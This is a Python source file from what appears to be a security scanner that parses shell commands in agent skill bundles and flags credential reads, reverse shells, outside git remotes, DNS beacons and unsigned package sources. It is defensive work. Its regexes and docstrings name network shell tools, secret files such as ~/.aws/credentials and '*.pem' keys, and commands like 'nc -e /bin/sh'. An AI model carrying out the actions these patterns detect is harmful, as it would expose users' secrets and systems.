_VALUE_OPTIONS.update(egrep=_VALUE_OPTIONS["grep"], fgrep=_VALUE_OPTIONS["grep"], gawk=_VALUE_OPTIONS["awk"])


_QUERY_TOOLS = frozenset({"jq", "gojq", "jaq", "yq"})
"""Tools that print one value of a JSON or YAML file (``jq -r .setup ci.json``)."""
_QUERY_PATH = re.compile(r"\.\w[\w-]*(?:\.\w[\w-]*)*")


def _queried_setting(texts: list[str | None]) -> str | None:
    """The text a query tool prints from one of the skill's data files (``jq -r .ci.setup knobs.json``,
    ``yq e '.setup' knobs.yaml``): a command kept in a config file and run by the step that reads it.
    A file named by another folder (the skill says to copy it there) is the skill's file of that name."""
    words = [t for t in texts if t is not None and not t.startswith("-") and t not in ("e", "eval")]
    if len(words) != 2 or _QUERY_PATH.fullmatch(words[0]) is None:
        return None
    table = BUNDLED.get() or {}
    text = bundled_text(words[1])
    if text is None:
        named = [rel for rel in table if PurePosixPath(rel).name == PurePosixPath(words[1]).name]
        text = Value(table[named[0]]) if len(named) == 1 else None
    data = _parsed_data(text, words[1])
    for key in words[0].split(".")[1:]:
        data = data.get(key) if isinstance(data, dict) else None
    return data if isinstance(data, str) else None


_PRINTED_CALL = re.compile(r"\b(?:print|sys\.stdout\.write|console\.log)\(")
_KEY_STEP = re.compile(r"""\[\s*['"]([^'"\[\]\n]+)['"]\s*\]|\.get\(\s*['"]([^'"\n]+)['"]""")


def _printed_setting(code: str) -> str | None:
    """The text a one-line program prints from one of the skill's config files by fixed keys
    (``python3 -c "d=tomllib.load(open('cfg/tool.toml','rb'));print(d['tool']['source'])"``): the
    setting, as ``jq -r .tool.source`` would print it, so what the shell does with it is judged."""
    call = _PRINTED_CALL.search(code)
    if call is None:
        return None
    printed = _call_argument(code, call.end())
    keys = [m.group(1) or m.group(2) for m in _KEY_STEP.finditer(printed)]
    if not keys:
        return None
    for path in _DATA_FILE_NAMED.findall(code)[:4]:
        data = _config_data(path)
        for key in keys:
            data = data.get(key) if isinstance(data, dict) else None
        if isinstance(data, str):
            return data
    return None


def _call_argument(code: str, start: int) -> str:
    """The text between a call's opening parenthesis (just before ``start``) and its match."""
    depth = 1
    for index in range(start, min(len(code), start + 400)):
        depth += {"(": 1, ")": -1}.get(code[index], 0)
        if depth == 0:
            return code[start:index]
    return code[start : start + 400]


def _config_data(path: str) -> object:
    """One of the skill's config files (TOML, JSON, YAML) parsed, or ``None``."""
    return _parsed_data(bundled_text(path), path)


def _parsed_data(held: Value | None, path: str) -> object:
    """A bundled data file's text (``held``, named ``path``) parsed as TOML, or else as YAML (a
    superset of JSON: one reader for both); ``None`` when it is missing, large or malformed."""
    if held is None or held.text is None or len(held.text) > 65536:
        return None
    import yaml

    try:
        if path.lower().endswith(".toml"):
            from skillgrade.rules.security.behaviour.manifests import parsed_toml

            return parsed_toml(held.text)
        return yaml.safe_load(held.text)
    except (yaml.YAMLError, RecursionError, ValueError):  # tomllib's error is a ValueError
        return None


def _read_separator(condition: str) -> str | None:
    """The field separator a ``while IFS='|' read -r a b`` loop splits each line on (``None``: blanks)."""
    found = re.search(r"\bIFS=(?:'([^'\s])'|\"([^\"\s])\"|\$'([^'\\\s])'|([^\s'\"$\\]))\s", condition)
    return next((group for group in found.groups() if group), None) if found else None


def _line_count_word(text: str | None) -> bool:
    """A flag or a count (``-n1``, ``-n``, ``1``, ``-r``): what a line picker is given besides a file."""
    return text is not None and (text.startswith("-") or text.isdigit())


def _names_files(texts: list[str | None]) -> bool:
    """Whether a command's words name a file operand and not ``-`` (standard input)."""
    operands = [t for t in texts if t is None or t == "-" or not t.startswith("-")]
    return bool(operands) and "-" not in operands


def _compressed_into(name: str, args: list[Value]) -> str | None:
    """The file a compressor writes with ``-o FILE`` (``--output=FILE``), by its spelling (``*-b.tar.zst``
    for a name with a part known at run time); ``None`` when it writes standard output or next to its input."""
    if name not in ("zstd", "xz", "lz4", "brotli", "pzstd"):
        return None
    for index, arg in enumerate(args):
        text = arg.text or arg.shape or ""
        following = args[index + 1] if index + 1 < len(args) else None
        if text in ("-o", "--output") and following is not None:
            return following.text or following.shape or None
        if text.startswith("--output="):
            return text.split("=", 1)[1] or None
    return None


def _parent_folder(args: list[Value]) -> Value | None:
    """What ``dirname PATH`` prints: PATH's folder, as text or as a shape (``*/out`` for ``*/out/x``);
    ``None`` when PATH is not known enough to say."""
    path = next((a for a in args if not (a.text or "").startswith("-")), None)
    pattern = path.pattern.rstrip("/") if path is not None and path.pattern else ""
    if "/" not in pattern:
        return None
    parent = pattern.rsplit("/", 1)[0] or "/"
    if path is not None and path.text is not None:
        return Value(parent)
    return Value(None, shape=parent) if parent.strip("*/") else None


def _extracted_into(name: str, texts: list[str | None]) -> str | None:
    """The folder an unpacking command writes into: ``tar -C DIR``/``--directory=DIR``, ``unzip -d
    DIR``, ``7z -oDIR``; ``None`` when it is the working folder."""
    for index, text in enumerate(texts):
        following = texts[index + 1] if index + 1 < len(texts) else None
        if (name in ("tar", "bsdtar") and text in ("-C", "--directory")) or (name == "unzip" and text == "-d"):
            return following
        if name in ("tar", "bsdtar") and text and text.startswith("--directory="):
            return text.split("=", 1)[1]
        if name == "7z" and text and text.startswith("-o") and len(text) > 2:
            return text[2:]
    return None


def _tar_operands(args: list[Value]) -> list[Value]:
    """tar's operands, the ones after ``-C DIR`` (``--directory``) read inside DIR: ``tar czf b.tgz -C
    "$dir" .`` archives the folder ``$dir``."""
    kept: list[Value] = []
    folder: str | None = None
    index = 0
    while index < len(args):
        text = args[index].text or ""
        if text in ("-C", "--directory") and index + 1 < len(args):
            folder = args[index + 1].text
            index += 2
            continue
        if _names_tar_archive(text, index) and index + 1 < len(args):
            # `tar -C build -czf out.tgz .`: the archive is named from where tar started, not inside DIR
            kept.extend(args[index : index + 2])
            index += 2
            continue
        if text.startswith("--directory="):
            folder = text.split("=", 1)[1]
        elif folder and text and not text.startswith(("-", "/", "~")):
            inside = folder.rstrip("/") if text in (".", "./") else f"{folder.rstrip('/')}/{text}"
            kept.append(Value(inside, args[index].origins))
        elif folder and args[index].text is None and (shape := args[index].shape or "*")[0] not in "-/~":
            # `-C out "run-$id"`: a folder named at run time inside DIR, kept by its spelling (out/run-*);
            # one named wholly at run time (`-C "$STAGE" "$NAME"`) is out/*
            kept.append(Value(None, args[index].origins, f"{folder.rstrip('/')}/{shape}"))
        else:
            kept.append(args[index])
        index += 1
    return kept


def _names_tar_archive(word: str, index: int) -> bool:
    """Whether tar's next word is the archive file: ``-f``/``--file``, a cluster ending in ``f``
    (``-czf``), or the old dashless first word (``czf``)."""
    if word in ("-f", "--file"):
        return True
    if re.fullmatch(r"-[A-Za-z]*f", word):
        return True
    return index == 0 and re.fullmatch(r"[A-Za-z]*f", word) is not None and re.search(r"[cxtru]", word) is not None


_MAX_LISTED_NAMES = 40
_NAMES_FROM_STDIN = {
    "tar": ("--files-from=-", "--files-from=/dev/stdin"), "bsdtar": ("--files-from=-", "--files-from=/dev/stdin"),
    "zip": ("-@",), "cpio": ("-o", "--create", "-ov", "-oc"), "rsync": ("--files-from=-",),
}  # fmt: skip
"""Archivers and copiers that take the list of files to read on their standard input."""


def _reads_names_from_stdin(name: str, texts: list[str | None]) -> bool:
    """``tar -T -``/``--files-from -``, ``zip -@``, ``cpio -o``, ``rsync --files-from=-``."""
    flags = _NAMES_FROM_STDIN.get(name)
    if flags is None:
        return False
    words = [t or "" for t in texts]
    for index, word in enumerate(words):
        if word in flags or (name in ("tar", "bsdtar") and re.fullmatch(r"-[A-Za-z]*T-", word)):
            return True
        if name in ("tar", "bsdtar") and word in ("-T", "--files-from"):
            # its value: `-`, the standard input's device, or (the parser leaves a `-` before a
            # redirect out of the words) nothing
            return words[index + 1 : index + 2] in ([], ["-"], ["/dev/stdin"])
    return False


def _list_file_operand(name: str, texts: list[str | None]) -> str | None:
    """The file an archiver or copier reads its list of files from (``tar -T FILE``, ``--files-from
    FILE``, ``rsync --files-from=FILE``); ``None`` for none or its standard input."""
    if name not in ("tar", "bsdtar", "rsync"):
        return None
    words = [t or "" for t in texts]
    for index, word in enumerate(words):
        given = None
        if word.startswith("--files-from="):
            given = word.split("=", 1)[1]
        elif (word in ("-T", "--files-from") or (name != "rsync" and re.fullmatch(r"-[A-Za-z]*T", word))) and (
            index + 1 < len(words)
        ):
            given = words[index + 1]
        if given and given not in ("-", "/dev/stdin"):
            return given
    return None


def _file_operands(name: str, args: list[Value]) -> list[Value]:
    """The arguments a command reads as files: ``grep -r '\\.ssh/id_' src`` reads ``src``, not the
    pattern that names the SSH folder (``grep … ~/.ssh/config`` does read it)."""
    if name in ("tar", "bsdtar"):
        return _tar_operands(args)
    if name in _TRANSFER_AUTH_OPTIONS:
        return _transfer_operands(name, args)
    if name not in _PATTERN_FIRST:
        return args
    texts = [a.text or "" for a in args]
    with_value = _VALUE_OPTIONS.get(name, frozenset())
    kept: list[Value] = []
    pattern_given = any(t in _PATTERN_FLAGS or t in ("-f", "--file") or t.startswith("--file=") for t in texts)
    index, operands_only = 0, False
    while index < len(args):
        text = texts[index]
        if not operands_only and text == "--":
            operands_only = True
        elif not operands_only and (text in _PATTERN_FLAGS or text in with_value):
            index += 2 if text == "--arg" or text == "--argjson" else 1  # the option's value is no file
        elif not operands_only and text.startswith("-") and text != "-":
            kept.append(args[index])  # a flag; -f FILE keeps its file as the next operand
        elif not pattern_given:
            pattern_given = True  # the first operand is the pattern or the program
        else:
            kept.append(args[index])
        index += 1
    return kept


_POSIX_SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "ash"})
_CONFIGURED_SHELL = re.compile(
    r"""["'](?:/bin/|/usr/bin/)?(?:ba|z|da|k|a)?sh["']\s*,\s*["']-s["']"""
    r"""|["'](?:/bin/|/usr/bin/)?(?:ba|z|da|k|a)?sh\s+-s\b[^"'\n]*["']"""
)
"""A shell told to read its commands from its input, as a data file spells a command: an array
(``["sh", "-s", "--"]``) or a string (``"bash -s"``)."""
_BUNDLED_COMMAND_FLAG = re.compile(r"-[a-bd-np-zA-NP-Z]*c[a-bd-np-zA-NP-Z]*")
"""``bash -lc``, ``sh -ec``, ``bash -xc``: single-letter options bundled with ``-c``, whose next word is
the command to run (an ``o`` would take a value of its own, so it is not read as one)."""
_CARRYING_ON = frozenset({"true", ":", "echo", "printf", "logger"})
"""Commands that, after ``||``, only note a failure and let the script go on (no ``exit``, no ``false``)."""


def _may_run_no_branch(node: Node) -> bool:
    """``node`` may leave its variables as they were: the fallback of ``a || b``, an ``if`` with no
    ``else``, a ``case`` with no ``*)`` item."""
    if node.type == "list":
        return True
    if node.type == "if_statement":
        return not any(child.type == "else_clause" for child in node.named_children)
    if node.type == "case_statement":
        items = [child for child in node.named_children if child.type == "case_item"]
        return not any(_node_text(item.child_by_field_name("value")) in ("*", "*)") for item in items)
    return False


def _kept_unless_set(entering: Value | None, assigned: Value) -> Value | None:
    """The value a variable had before a branch that may not run set it (``src=~/.aws/credentials;
    [ -r "$src" ] || src=/etc/hostname``): either may hold after it. Only a value known by its text or
    carrying data counts; one the script knows nothing of adds nothing to a second walk."""
    if entering is None or (entering.text is None and not entering.origins) or entering == assigned:
        return None
    return entering


def _carries_on(node: Node) -> bool:
    """``node`` lets the script go on whatever happened before it: ``true``, ``:`` or a message printed
    (``|| echo "checksum mismatch" >&2``), alone or grouped; an ``exit``, ``return`` or any other command
    may stop the run, so it does not count."""
    if node.type == "redirected_statement":
        body = node.child_by_field_name("body")
        return body is not None and _carries_on(body)
    if node.type in ("compound_statement", "subshell", "list"):
        return all(_carries_on(child) for child in node.named_children)
    return node.type == "command" and _node_text(node.child_by_field_name("name")) in _CARRYING_ON


def _after_or(node: Node) -> bool:
    """``node`` is what runs when the command before it fails (``a || node``)."""
    previous = node.prev_sibling
    return previous is not None and previous.type == "||"


_VERIFIERS = frozenset(
    {"sha256sum", "sha512sum", "sha384sum", "sha224sum", "b2sum", "shasum", "gpg", "gpg2", "gpgv", "cosign",
     "minisign", "signify", "openssl", "rpm", "slsa-verifier"}
)  # fmt: skip


def _verifies(name: str, texts: list[str | None]) -> bool:
    """A command that checks files against a checksum list or a signature (and fails otherwise)."""
    words = {t or "" for t in texts}
    if name.endswith("sum"):
        return bool(words & {"-c", "--check"}) or any(
            w.startswith("-") and not w.startswith("--") and "c" in w and w[1:].isalpha() and len(w) <= 4 for w in words
        )
    if name in ("gpg", "gpg2"):
        return bool(words & {"--verify", "--verify-files"})
    if name == "openssl":
        return "dgst" in words and any(w in ("-verify", "-signature") for w in words)
    if name == "cosign":
        return bool(words & {"verify-blob", "verify-blob-attestation"})
    if name == "minisign":
        return any(w.startswith("-V") for w in words)
    if name == "signify":
        return any(w.startswith(("-C", "-V")) for w in words)
    if name == "rpm":
        return bool(words & {"-K", "--checksig"})
    return name in ("gpgv", "slsa-verifier")


_TRANSFER_AUTH_OPTIONS: dict[str, frozenset[str]] = {
    "scp": frozenset({"-i", "-F", "-o", "-P", "-S", "-J", "-c", "-l", "-D", "-X"}),
    "sftp": frozenset({"-i", "-F", "-o", "-P", "-S", "-J", "-c", "-l", "-D", "-B", "-R", "-s", "-X"}),
    "rsync": frozenset({"-e", "--rsh", "--rsync-path", "--exclude", "--include", "--filter", "-f", "--chmod",
                        "--chown", "--port", "--timeout", "--bwlimit", "-B", "--block-size", "-T", "--temp-dir"}),
}  # fmt: skip
"""Options of the SSH copy tools whose value is how to connect, never what is copied: the key
given to ``scp -i`` or to ``rsync -e "ssh -i …"`` signs the login and stays on this machine."""


def _transfer_operands(name: str, args: list[Value]) -> list[Value]:
    """What ``scp``/``sftp``/``rsync`` copy: the operands, without the connection options' values
    (``--rsh=ssh -i key`` and ``-e 'ssh -i key'`` alike). A key named as a source is still read."""
    with_value = _TRANSFER_AUTH_OPTIONS[name]
    kept: list[Value] = []
    skip_next = False
    for arg in args:
        text = arg.text or ""
        if skip_next:
            skip_next = False
        elif text.split("=", 1)[0] in with_value and "=" in text and text.startswith("--"):
            continue  # --rsh=ssh -i key
        elif text in with_value:
            skip_next = True
        elif len(text) > 2 and text[:2] in with_value and not text.startswith("--"):
            continue  # -issh-key, -essh (the value glued to its flag)
        else:
            kept.append(arg)
    return kept


_ELSEWHERE_RUNNERS = frozenset(
    {"docker", "podman", "nerdctl", "kubectl", "oc", "lxc", "incus", "multipass", "ssh", "vagrant", "gcloud"}
)
_EXEC_VALUE_FLAGS = frozenset({"-u", "--user", "-w", "--workdir", "-e", "--env", "--env-file", "--detach-keys"})
_RUN_VALUE_FLAGS = _EXEC_VALUE_FLAGS | frozenset(
    {"-v", "--volume", "-p", "--publish", "--name", "--network", "--net", "--entrypoint", "--mount", "-l", "--label",
     "--platform", "--pull", "--restart", "--cpus", "-m", "--memory", "--add-host", "--dns", "-h", "--hostname",
     "--device", "--cap-add", "--cap-drop", "--security-opt", "--ulimit", "--log-driver", "--log-opt", "--tmpfs",
     "--ipc", "--pid", "--gpus", "--shm-size", "--runtime", "--cidfile", "--expose", "--health-cmd", "--stop-signal"}
)  # fmt: skip
"""``docker run`` options that take a value (the image is the first word after them)."""
_SSH_VALUE_FLAGS = frozenset(
    {"-b", "-c", "-D", "-E", "-e", "-F", "-I", "-i", "-J", "-L", "-l", "-m", "-O", "-o", "-p", "-Q", "-R", "-S",
     "-W", "-w", "-B"}
)  # fmt: skip


_PATH_TESTS = frozenset({b"-e", b"-f", b"-d", b"-s", b"-r", b"-a"})
_NETWORK_WORDS = re.compile(r"\b(?:curl|wget|nc|ncat|socat|https?|python3?|node|perl|ruby)\b|/dev/(?:tcp|udp)/")
"""A program that may reach the network (a cheap look before it is read as code)."""


_REGISTRIES = frozenset(
    {"docker.io", "registry-1.docker.io", "index.docker.io", "ghcr.io", "quay.io", "gcr.io", "mcr.microsoft.com",
     "public.ecr.aws", "registry.k8s.io", "k8s.gcr.io", "nvcr.io", "cgr.dev", "registry.gitlab.com",
     "docker.elastic.co", "container-registry.oracle.com", "registry.access.redhat.com", "registry.redhat.io",
     "docker.pkg.github.com", "pkg.dev", "amazonaws.com", "azurecr.io"}
)  # fmt: skip
"""Public registries and the clouds' own (``*.pkg.dev``, ``*.amazonaws.com``, ``*.azurecr.io`` hold
the user's own images)."""


def _known_registry(registry: str) -> bool:
    host = registry.split(":", 1)[0]
    return vocabulary.is_local_host(host) or host in _REGISTRIES or any(host.endswith("." + r) for r in _REGISTRIES)


def _container_image(texts: list[str | None]) -> str | None:
    """The image of ``docker run``/``create`` words (the first word after the options)."""
    index = 1
    while index < len(texts) and (texts[index] or "").startswith("-"):
        word = texts[index] or ""
        index += 2 if word in _RUN_VALUE_FLAGS and "=" not in word else 1
    return texts[index] if index < len(texts) else None


def _mount_source(spec: str) -> str:
    """The host path of a ``-v SRC:DST`` or ``--mount type=bind,source=SRC,…`` value."""
    if "src=" not in spec and "source=" not in spec:
        return spec.split(":", 1)[0]
    return re.split(r"(?:src|source)=", spec)[1].split(",")[0]


def _host_reach(texts: list[str | None]) -> str | None:
    """What of the host ``docker run`` options hand the container, if it is the machine itself."""
    words = [t or "" for t in texts]
    if "--privileged" in words:
        return "full privileges (--privileged)"
    for index, word in enumerate(words):
        value = words[index + 1] if index + 1 < len(words) else ""
        if word.startswith(("--pid=", "--cap-add=")):
            word, value = word.split("=", 1)
        if (word == "--pid" and value == "host") or (word == "--cap-add" and value.upper() in ("ALL", "SYS_ADMIN")):
            return f"the host's {'processes' if word == '--pid' else 'administration rights'} ({word} {value})"
        if word.startswith(("--volume=", "--mount=")):
            word, value = word.split("=", 1)
        if word in ("-v", "--volume", "--mount"):
            source = _mount_source(value)
            if source in ("/", "/root", "/etc", "~", "$HOME", "${HOME}") or source.endswith("docker.sock"):
                return f"the host's {source} mounted"
    return None


def _run_elsewhere(name: str, texts: list[str | None]) -> str | None:
    """The shell command a runner hands a container, a pod or another machine (``docker exec -d c sh -c
    '…'``, ``kubectl exec pod -- …``, ``ssh host '…'``, ``vagrant ssh -c '…'``), as shell text: what
    runs there is read as if it ran here (a reverse shell from a container reaches out all the same)."""
    words = [t if t is not None else '"$unknown"' for t in texts]
    if name in ("docker", "podman", "nerdctl") and words[:1] in (["exec"], ["run"]):
        flags = _EXEC_VALUE_FLAGS if words[0] == "exec" else _RUN_VALUE_FLAGS
        index = 1
        while index < len(words) and words[index].startswith("-"):
            index += 2 if words[index] in flags else 1
        return shlex.join(words[index + 1 :]) if index + 1 < len(words) else None
    if name in ("kubectl", "oc", "lxc", "incus", "multipass") and words[:1] in (["exec"], ["run"]) and "--" in words:
        rest = words[words.index("--") + 1 :]
        return shlex.join(rest) if rest else None
    if name == "ssh":
        index = 0
        while index < len(words) and words[index].startswith("-"):
            index += 2 if words[index] in _SSH_VALUE_FLAGS else 1
        return " ".join(words[index + 1 :]) or None  # the remote shell reads the words joined
    if (name == "vagrant" and words[:1] == ["ssh"]) or (name == "gcloud" and words[:2] == ["compute", "ssh"]):
        for index, word in enumerate(words):
            if word in ("-c", "--command") and index + 1 < len(words):
                return words[index + 1]
            if word.startswith("--command="):
                return word.split("=", 1)[1]
    return None


def _home_searches(texts: list[str | None]) -> list[str]:
    """``find ~ -name '*.pem'``: the home folder searched for a kind of secret file, as a pattern
    (``~/**/*.pem``) that :func:`vocabulary.secret_store` names."""
    first_test = next((i for i, t in enumerate(texts) if (t or "-")[0] in "-(!"), len(texts))
    if not any(vocabulary.searched_home(t) for t in texts[:first_test] if t):
        return []
    names = [texts[i + 1] or "" for i, t in enumerate(texts[:-1]) if t in ("-name", "-iname")]
    return [f"~/**/{name}" for name in names if vocabulary.secret_file_name(name)]


def _module_script(module: Value) -> Value:
    """The bundled file ``python -m pkg.mod`` runs (``pkg/mod.py``, or ``pkg/mod/__main__.py`` for a
    package), as a path; a module the skill does not hold stays as it was (``-m http.server``)."""
    name = module.text or ""
    if not re.fullmatch(r"[A-Za-z_][\w]*(?:\.[A-Za-z_]\w*)*", name):
        return module
    base = name.replace(".", "/")
    bundled = BUNDLED.get() or {}
    for rel in (f"{base}.py", f"{base}/__main__.py"):
        if any(key == rel or key.endswith("/" + rel) for key in bundled):
            return Value(rel)
    return module


def _located_program(values: list[Value]) -> Value | None:
    """What ``command -v nc``, ``which nc``, ``type -P nc`` print: where the program is, which runs
    as that program when used as a command name (``tool=$(command -v ncat || command -v nc)``)."""
    texts = [v.text for v in values]
    locator = vocabulary.command_name(texts[0] or "")
    flags = {t for t in texts[1:] if t and t.startswith("-")}
    names = [t for t in texts[1:] if t is not None and not t.startswith("-")]
    if len(names) != 1 or len(names) + len(flags) != len(texts) - 1:
        return None
    if (
        (locator == "command" and flags == {"-v"})
        or locator in ("which", "whence")
        or (locator == "type" and flags & {"-P", "-p"})
    ):
        return Value(names[0])
    return None


def pushed_to(words: list[str], remotes: dict[str, str]) -> tuple[str, str | None]:
    """The remote a ``git push`` names (its words after ``git``, options left out) and that remote's
    host, or ``None`` when it names no host (a remote the user configured, by name)."""
    target = words[1] if len(words) > 1 else "origin"
    url = remotes.get(target, target)
    return url, vocabulary.url_host(url) or (url.split("@", 1)[-1].split(":", 1)[0] if "@" in url else None)


def outside_remote(url: str, host: str) -> bool:
    """A remote on a host the user never set up: not a public code host, a local one or a placeholder."""
    return "." in host and not (packages.known_code_host(url) or _local(host) or _placeholder(url))


_TOKEN_WORDS = tuple(
    dict.fromkeys(f"{command} {prefix[0]}".lower() for command, prefix, _ in vocabulary.TOKEN_COMMANDS)
)
"""The commands of :data:`vocabulary.TOKEN_COMMANDS` as a first pass looks for them (``aws configure``,
``op read`` …): a snippet holding only such a command is parsed too."""


def _whole_repository(texts: list[str | None]) -> str | None:
    """How a ``git push`` sends every ref rather than a branch (``--mirror``, ``--all``, ``refs/*:refs/*``)."""
    for text in texts:
        word = (text or "").strip("'\"")
        if word in ("--mirror", "--all"):
            return f"git push {word}"
        if word.lstrip("+").split(":", 1)[0] in ("*", "refs/*", "refs/heads/*"):
            return f"git push {word}"
    return None


def _local(host: str) -> bool:
    return vocabulary.is_local_host(host.split(":", 1)[0])


def _placeholder(url: str) -> bool:
    """A remote written for the reader to fill in (``https://NEW_HOST/repo.git``, ``git@<host>:x.git``)."""
    written = re.sub(r"^[a-z+]+://", "", url.strip("'\"")).split("/", 1)[0].rsplit("@", 1)[-1].split(":", 1)[0]
    return "<" in url or any(vocabulary.placeholder_host(label) for label in written.split("."))


_GIT_IDENTITY_KEYS = frozenset({"user.email", "user.name", "remote.origin.url", "user.signingkey"})


def _git_identity(words: list[str | None]) -> bool:
    """``git config [--global] [--get] user.email``, ``git remote get-url origin``: who the user is
    and which repository this is, what a beacon reports."""
    plain = [w for w in words if w]
    if plain[:1] == ["config"]:
        keys = [w.lower() for w in plain[1:] if not w.startswith("-")]
        return len(keys) == 1 and keys[0] in _GIT_IDENTITY_KEYS
    return plain[:2] == ["remote", "get-url"]


_ENCODERS = frozenset({"base32", "base64", "basenc"})
"""Programs that, not decoding, turn their input into text that fits a DNS label or a URL."""


def _beacon_zone(name: str) -> bool:
    """A looked-up name with the data in front of a constant zone that is not a local one."""
    zone = re.search(r"\*[^*]*?\.((?:[\w-]+\.)+[a-z]{2,})\.?$", name.lower())
    return zone is not None and not zone.group(1).endswith((".local", ".lan", ".internal", ".home.arpa", ".corp"))


_SECRET_NAME = re.compile(
    r"(?i)(?:TOKEN|SECRET|PASSWORD|PASSWD|API_?KEY|ACCESS_?KEY|PRIVATE_?KEY|CREDENTIALS?)$|^KAGGLE_KEY$"
)
_ESCAPE = re.compile(r"\\(?:x[0-9a-fA-F]{2}|[0-7]{3}|u[0-9a-fA-F]{4})")
_IDENTITY_VARIABLES = frozenset(
    {"USER", "USERNAME", "LOGNAME", "HOSTNAME", "COMPUTERNAME", "USERDOMAIN", "USERDNSDOMAIN", "HOST"}
)
_INDEX_VARIABLES = frozenset(
    {"pip_index_url", "pip_extra_index_url", "uv_index_url", "uv_extra_index_url", "uv_index", "uv_default_index",
     "npm_config_registry", "yarn_registry", "poetry_repositories_default_url", "pip_find_links"}
)  # fmt: skip
_PACKAGE_RUNNERS: dict[str, tuple[str, ...]] = {
    "msiexec": ("/i", "/package", "-i", "/a", "/j", "/update", "/p"),
    "rpm": ("-i", "-U", "-F", "--install", "--upgrade", "-ivh", "-Uvh", "-iv", "-Uv"),
    "yum": ("install", "localinstall", "reinstall"),
    "dnf": ("install", "reinstall"),
    "zypper": ("install", "in"),
}
"""Package installers that accept a URL: they fetch the package and run its install-time code (an
MSI's custom actions, an RPM's scriptlets), often as root."""


def _fetches_submodules(texts: list[str | None]) -> bool:
    """``git submodule update``/``init``/``sync``, or a clone or pull that recurses into submodules."""
    words = [t or "" for t in texts]
    if words[:1] == ["submodule"]:
        return any(w in ("update", "init", "sync", "foreach") for w in words[1:3])
    return (
        bool(words[:1])
        and words[0] in ("clone", "pull", "fetch")
        and any(w.startswith(("--recurse-submodules", "--recursive")) for w in words)
    )


_SUBMODULE_ENTRY = re.compile(r"(?im)^\s*path\s*=\s*(?P<path>\S+)|^\s*url\s*=\s*(?P<url>\S+)")


def _submodules() -> list[tuple[str, str]]:
    """(folder, address) of each submodule the skill's ``.gitmodules`` declares on a host that is not a
    public code host (whose code is read like any clone's)."""
    text = bundled_text(".gitmodules")
    if text is None or text.text is None:
        return []
    found: list[tuple[str, str]] = []
    folder = ""
    for match in _SUBMODULE_ENTRY.finditer(text.text[:65536]):
        if match.group("path"):
            folder = match.group("path").strip("\"'")
        elif folder and "://" in match.group("url") and not packages.known_code_host(match.group("url")):
            found.append((folder, match.group("url").strip("\"'")))
    return found


_EDITORS = frozenset({"code", "code-insiders", "codium", "cursor", "windsurf", "positron"})
"""Editors that install an extension from a URL or a file (``code --install-extension x.vsix``)."""
_APT_CHECKS_OFF = re.compile(r"\b(?:trusted|allow-insecure|allow-weak|allow-downgrade-to-insecure)=yes\b", re.I)
"""An apt source option that takes its packages without a valid signature (``[trusted=yes]``)."""
_SYSTEM_SOURCE_FILES = re.compile(
    r"/etc/apt/sources\.list(?:\.d/[^/]+)?$|/etc/yum\.repos\.d/[^/]+$|/etc/zypp/repos\.d/[^/]+$|/etc/apk/repositories$"
    r"|/etc/pacman\.conf$|/etc/pacman\.d/[^/]+$"
)
_SOURCE_FLAGS = frozenset(
    {"--source", "-s", "-source", "--repository", "-x", "--add-repo", "--repo", "--index", "--additional-urls"}
)
_SOURCE_COMMANDS = frozenset({"choco", "winget", "nuget", "dotnet", "apk", "dnf", "yum", "zypper", "helm", "brew",
                              "add-apt-repository", "snap", "flatpak", "scoop", "krew", "kubectl-krew", "gem",
                              "bundle", "conan", "arduino-cli", "spack"})  # fmt: skip


_SOURCE_ADDING = frozenset(
    {("helm", "repo"), ("brew", "tap"), ("zypper", "ar"), ("zypper", "addrepo"), ("flatpak", "remote-add"),
     ("scoop", "bucket"), ("dnf", "config-manager"), ("yum", "config-manager"), ("add-apt-repository", ""),
     ("gem", "sources"), ("bundle", "config"), ("dotnet", "nuget"), ("nuget", "sources"), ("winget", "source"),
     ("choco", "source"), ("conan", "remote"), ("arduino-cli", "config"), ("spack", "mirror"), ("spack", "repo")}
)  # fmt: skip
_UNSIGNED_SOURCE_FLAGS = frozenset(
    {"--unsigned", "--no-gpgcheck", "--nogpgcheck", "--no-gpg-checks", "--no-gpg-verify", "--allow-untrusted",
     "--no-check-signature"}
)  # fmt: skip
"""Flags of a source-adding command that take the source's packages without checking their signatures
(``spack mirror add --unsigned``, ``zypper ar --no-gpgcheck``, ``flatpak remote-add --no-gpg-verify``):
whoever serves the source, or sits on the way to it, hands out builds that are installed and run."""


_RECIPE_REPOSITORIES = frozenset(
    {("brew", "tap"), ("scoop", "bucket"), ("krew", "index"), ("kubectl-krew", "index"), ("spack", "repo")}
)
"""Sources that are git repositories of install recipes the package manager runs unsigned (a tap's
formula is Ruby run at install, a bucket's manifest has install scripts, a Spack package is Python).
Their home is a public code host (``brew tap owner/name`` means github.com/owner/homebrew-name); one
given by URL on another git server hands install-time code to whoever runs that server."""


def _package_source_urls(name: str, texts: list[str | None]) -> list[str]:
    """URLs a package manager is told to install from: ``--source``/``-s``/``--repository``/``-X``/
    ``--add-repo`` values, ``helm repo add N URL``, ``brew tap N URL``, ``zypper ar URL``,
    ``flatpak remote-add N URL``, ``scoop bucket add N URL``, ``add-apt-repository 'deb URL …'``,
    ``conan remote add N URL`` (Conan's recipes are Python run at install), ``arduino-cli config add
    board_manager.additional_urls URL`` and ``--additional-urls URL`` (board packages bring the
    toolchains and upload tools every build runs)."""
    if name not in _SOURCE_COMMANDS:
        return []
    words = [t or "" for t in texts]
    found = [words[i + 1] for i, w in enumerate(words[:-1]) if w.lower() in _SOURCE_FLAGS]
    found += [
        w.split("=", 1)[1] for w in words if w.lower().startswith(("--source=", "--repository=", "--additional-urls="))
    ]
    verb = words[0] if words and name != "add-apt-repository" else ""
    if (name, verb) in _SOURCE_ADDING:
        found += [u for w in words for u in vocabulary.urls(w)]
    found = [part for word in found for part in word.split(",")]  # --additional-urls a,b
    return [url for url in dict.fromkeys(found) if _URLISH.match(url.strip("'\""))]


def _program_word(word: str | None) -> bool:
    """``word`` names a program to run (``/bin/sh``, ``bash``, ``"sh -i"``), as ``nc -e``/``-c`` take."""
    if not word:
        return False
    return word.startswith("/") or " " in word or vocabulary.command_name(word) in vocabulary.SHELLS


_PACKAGE_FILE_INSTALLERS: dict[str, tuple[str, ...]] = {
    **_PACKAGE_RUNNERS,
    "installer": ("-pkg", "-package"),
    "dpkg": ("-i", "--install"),
    "apt": ("install", "reinstall"),
    "apt-get": ("install", "reinstall"),
    "pkgutil": ("--install",),
    "snap": ("install",),
    "flatpak": ("install",),
    "pacman": ("-U",),
    "apk": ("add",),
    **{editor: ("--install-extension",) for editor in _EDITORS},
}
